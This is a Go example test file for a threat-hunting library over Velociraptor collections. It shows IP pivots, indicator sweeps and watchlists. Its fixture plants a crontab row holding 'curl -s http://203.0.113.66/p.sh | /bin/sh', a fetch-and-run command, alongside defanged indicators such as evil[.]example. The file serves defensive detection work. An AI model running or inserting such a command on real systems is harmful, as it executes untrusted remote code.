package hunt_test

import (
	"context"
	"fmt"
	"strings"

	"github.com/velocicompanion/velocicompanion/companion/hunt"
	"github.com/velocicompanion/velocicompanion/companion/hunt/indicator"
	"github.com/velocicompanion/velocicompanion/ingest"
	"github.com/velocicompanion/velocicompanion/ingest/velociraptor"
	"github.com/velocicompanion/velocicompanion/store/memory"
	"github.com/velocicompanion/velocicompanion/tenancy"
)

// infected returns a Service over one tenant with two rows of one host.
func infected(ctx context.Context) (*hunt.Service, tenancy.ID) {
	stores, tenant := memory.New(), tenancy.New()
	must(stores.Tenants.CreateTenant(ctx, tenancy.Tenant{ID: tenant, Name: "Acme"}))
	in, err := ingest.New(stores.Collections, stores.Hosts, ingest.Config{})
	must(err)
	_, err = in.Ingest(ctx, tenant, &velociraptor.Table{Artifact: "Linux.Sys.Crontab/CronTabs", ClientID: "C.1", Body: strings.NewReader(
		`{"Command":"curl -s http://203.0.113.66/p.sh | /bin/sh"}` + "\n" + `{"Command":"logrotate"}`)})
	must(err)
	service, err := hunt.New(stores.Collections, stores.Hosts, stores.Hunts, hunt.Config{})
	must(err)
	return service, tenant
}

func ExampleService_Pivot() {
	ctx := context.Background()
	service, tenant := infected(ctx)
	found, err := service.Pivot(ctx, hunt.Pivot{Scope: hunt.Scope{Tenants: []tenancy.ID{tenant}}, Value: "203[.]0[.]113[.]66"})
	must(err)
	for _, h := range found.Hosts {
		for _, a := range h.Artifacts {
			fmt.Println(found.Kind, found.Value, h.Host.ClientID, a.Artifact, a.Rows)
		}
	}
	// Output: ip 203.0.113.66 C.1 Linux.Sys.Crontab/CronTabs 1
}

func ExampleService_Sweep() {
	ctx := context.Background()
	service, tenant := infected(ctx)
	list, err := indicator.Read(strings.NewReader("# beacon\nhxxp://203.0.113.66/p.sh\nevil[.]example\nno indicator\n"))
	must(err)
	found, err := service.Sweep(ctx, hunt.Sweep{Scope: hunt.Scope{Tenants: []tenancy.ID{tenant}}, List: list})
	must(err)
	for _, h := range found.Hits {
		fmt.Println(h.Indicator, h.Kind, h.Host.ClientID, h.Artifact, h.Rows)
	}
	fmt.Println(len(found.Missed), "missed,", found.Invalid[0].Reason, "in line", found.Invalid[0].Line)
	// Output:
	// hxxp://203.0.113.66/p.sh url C.1 Linux.Sys.Crontab/CronTabs 1
	// 1 missed, not an indicator of a known kind; the name of a user is written user:NAME in line 4
}

func ExampleService_SaveWatchlist() {
	ctx := context.Background()
	service, tenant := infected(ctx)
	list, err := indicator.Read(strings.NewReader("# beacon\n203[.]0[.]113[.]66\nevil[.]example\n"))
	must(err)
	watchlist, err := service.SaveWatchlist(ctx, tenant, "Beacon", "", list)
	must(err)
	fmt.Println(watchlist.Name, watchlist.Indicators, "indicators,", watchlist.Sightings, "sighting")
	sightings, err := service.Sightings(ctx, tenant, hunt.SightingFilter{WatchlistID: watchlist.ID, Limit: 10})
	must(err)
	for _, s := range sightings {
		fmt.Println(s.Indicator, s.Kind, s.Host.ClientID, s.Artifact, s.Rows)
	}
	// Output:
	// Beacon 2 indicators, 1 sighting
	// 203[.]0[.]113[.]66 ip C.1 Linux.Sys.Crontab/CronTabs 1
}
